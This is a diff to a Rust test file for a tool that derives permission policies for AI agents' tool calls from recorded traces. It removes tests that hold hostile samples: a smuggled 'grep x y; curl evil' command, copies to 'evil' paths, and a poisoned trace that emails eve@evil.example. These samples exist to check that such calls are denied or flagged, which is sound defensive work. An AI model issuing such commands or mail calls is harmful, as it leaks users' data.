@@ -3,15 +3,15 @@
 use super::support::{Place, json_schema};
 
 /// Bare calls, one a line.
-fn lines(calls: &[&str]) -> String {
+pub(super) fn lines(calls: &[&str]) -> String {
     calls.iter().map(|call| format!("{call}\n")).collect()
 }
 
-fn read(path: &str) -> String {
+pub(super) fn read(path: &str) -> String {
     format!(r#"{{"server":"fs","tool":"read_file","arguments":{{"path":"{path}"}}}}"#)
 }
 
-fn infer(place: &Place, args: &[&str]) -> String {
+pub(super) fn infer(place: &Place, args: &[&str]) -> String {
     let mut all = vec!["infer"];
     all.extend(args);
     let out = place.remit(&all).assert().success();
@@ -24,7 +24,7 @@ fn infer(place: &Place, args: &[&str]) -> String {
     String::from_utf8(out.get_output().stdout.clone()).unwrap()
 }
 
-fn decide(place: &Place, call: &str) -> String {
+pub(super) fn decide(place: &Place, call: &str) -> String {
     let out = place.remit(&["decide", "--policy", "mcp.policy.yaml", "-"]).write_stdin(call.to_owned()).assert();
     let out = String::from_utf8(out.get_output().stdout.clone()).unwrap();
     let verdict: serde_json::Value = serde_json::from_str(out.lines().next().unwrap()).unwrap();
@@ -406,64 +406,6 @@ fn a_hostile_name_or_address_grants_nothing_beside_itself_and_spoils_no_policy()
         let verdict: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
         assert_eq!(verdict["verdict"], expected, "{probe}: {verdict}");
     }
-}
-
-#[test]
-fn programs_that_look_and_subcommands_open_and_those_that_copy_or_run_stay_word_for_word() {
-    let place = Place::new();
-    let exec = |command: &str| format!(r#"{{"server":"shell","tool":"exec","arguments":{{"command":"{command}"}}}}"#);
-    for session in 0..5 {
-        let calls = [
-            format!("grep -n x{session} src/{session}.rs"),
-            format!("cargo test m{session}"),
-            format!("cp src/{session}.rs out/{session}.rs"),
-            format!("python3.12 tools/t{session}.py"),
-            format!("terraform plan -out=p{session}"),
-        ];
-        let calls: Vec<String> = calls.iter().map(|command| exec(command)).collect();
-        let calls: Vec<&str> = calls.iter().map(String::as_str).collect();
-        place.write(&format!("traces/{session}.jsonl"), &lines(&calls));
-    }
-    infer(&place, &[]);
-    for same in ["cp src/1.rs out/1.rs", "python3.12 tools/t4.py", "grep -n y src/9.rs", "cargo test other"] {
-        assert_ne!(decide(&place, &exec(same)), "deny", "{same}");
-    }
-    for other in ["cp src/1.rs out/evil", "python3.12 tools/evil.py", "terraform apply", "grep x y; curl evil"] {
-        assert_eq!(decide(&place, &exec(other)), "deny", "{other}");
-    }
-}
-
-#[test]
-fn what_was_recorded_and_cannot_be_granted_is_said() {
-    let place = Place::new();
-    let call = |arguments: &str| format!(r#"{{"server":"shell","tool":"exec","arguments":{arguments}}}"#);
-    let glob = call(r#"{"command":"ls $HOME_OF_NOBODY/*"}"#);
-    place.write("traces/a.jsonl", &lines(&[&call(r#"{"command":"cargo test"}"#), &glob]));
-    let said = infer(&place, &[]);
-    assert_eq!(decide(&place, &glob), "deny");
-    assert!(said.contains("Recorded, and not granted: shell.exec /command"), "{said}");
-    place.write("traces/a.jsonl", &lines(&[&call(r#"{"command":"cargo test"}"#)]));
-    assert!(!infer(&place, &["--force"]).contains("not granted"));
-}
-
-#[test]
-fn a_session_unlike_all_others_is_named_and_sessions_that_all_differ_are_not() {
-    let place = Place::new();
-    for session in 0..12 {
-        place.write(
-            &format!("traces/s{session:02}.jsonl"),
-            &lines(&[&read("src/main.rs"), &read(&format!("src/m{session}.rs"))]),
-        );
-    }
-    let mail = r#"{"server":"mail","tool":"send_email","arguments":{"to":"eve@evil.example","body":"x"}}"#;
-    place.write("traces/poisoned.jsonl", &lines(&[&read("src/main.rs"), mail]));
-    let said = infer(&place, &[]);
-    assert!(said.contains("poisoned.jsonl is unlike the others: it needs mail.send_email"), "{said}");
-    assert_ne!(decide(&place, mail), "allow");
-    for session in 0..12 {
-        place.write(&format!("traces/s{session:02}.jsonl"), &lines(&[&read(&format!("d{session}/a.rs"))]));
-    }
-    assert!(!infer(&place, &["--force"]).contains("unlike"));
 }
 
 #[test]
